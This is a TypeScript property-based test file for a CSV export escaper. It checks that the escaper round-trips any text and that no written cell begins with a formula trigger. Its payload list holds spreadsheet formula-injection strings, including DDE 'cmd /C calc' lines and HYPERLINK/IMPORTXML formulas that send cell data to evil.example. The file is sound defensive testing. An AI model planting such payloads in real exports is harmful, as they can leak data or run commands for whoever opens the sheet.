import * as fc from "fast-check";
import { expect, test } from "vitest";
import { escapeCell, writeCsv } from "#domain/exports/csv.ts";
import { aText } from "#test/arbitraries.ts";
import { readCsv, unescapeCell } from "#test/readCsv.ts";

const startsDangerously = /^[=+\-@\t\r\n\0＝＋－＠]/;

test("200,000 cells of any text come back as they were, and none starts dangerously", () => {
  fc.assert(
    fc.property(fc.array(fc.tuple(aText, aText), { minLength: 50, maxLength: 50 }), (rows) => {
      const cells = rows.flat();
      for (const cell of cells) {
        const written = escapeCell(cell);
        if (startsDangerously.test(written)) return false;
        if (unescapeCell(written) !== cell) return false;
      }
      expect(readCsv(writeCsv(rows))).toEqual(rows);
      return true;
    }),
    { numRuns: 2_000 },
  );
}, 60_000);

test("no two texts are written alike", () => {
  fc.assert(
    fc.property(aText, aText, (a, b) => a === b || escapeCell(a) !== escapeCell(b)),
    { numRuns: 20_000 },
  );
});

test("the law can fail: escaping without counting the marks already there loses one", () => {
  const careless = (text: string) => (startsDangerously.test(text) ? `'${text}` : text);
  const isBijection = fc.property(aText, (text) => unescapeCell(careless(text)) === text);
  expect(fc.check(isBijection, { numRuns: 20_000 }).failed).toBe(true);
});

const payloads = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1+1)",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"Click")',
  '=IMPORTXML(CONCAT("http://evil.example",A1),"//a")',
  '=DDE("cmd";"/C calc";"x")',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!D2",
  "+thespanishinquisition(cmd|' /C calc'!A",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\0=1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(1)",
  "'=1+1",
  "''@x",
  '",=1+1,"',
  '"\r\n=1+1',
];

test.each(payloads)(
  "the payload %j is harmless in a sheet and whole on the way back",
  (payload) => {
    const csv = writeCsv([[payload, "x"]]);
    for (const field of csv.slice(2).split('","')) expect(field).not.toMatch(startsDangerously);
    expect(readCsv(csv)).toEqual([[payload, "x"]]);
  },
);

test("numbers are left alone, also negative ones, and what was not given stays empty", () => {
  expect(writeCsv([[-1.5, 0, 4, null, ""]])).toBe('\uFEFF"-1.5","0","4","",""\r\n');
});

test("every field is quoted, lines end as sheets expect, and Excel gets its mark when asked", () => {
  expect(
    writeCsv([
      ["a", 'say "hi"'],
      ["b", "two\nlines"],
    ]),
  ).toBe('\uFEFF"a","say ""hi"""\r\n"b","two\nlines"\r\n');
  expect(readCsv(writeCsv([["a"]]))).toEqual([["a"]]);
});
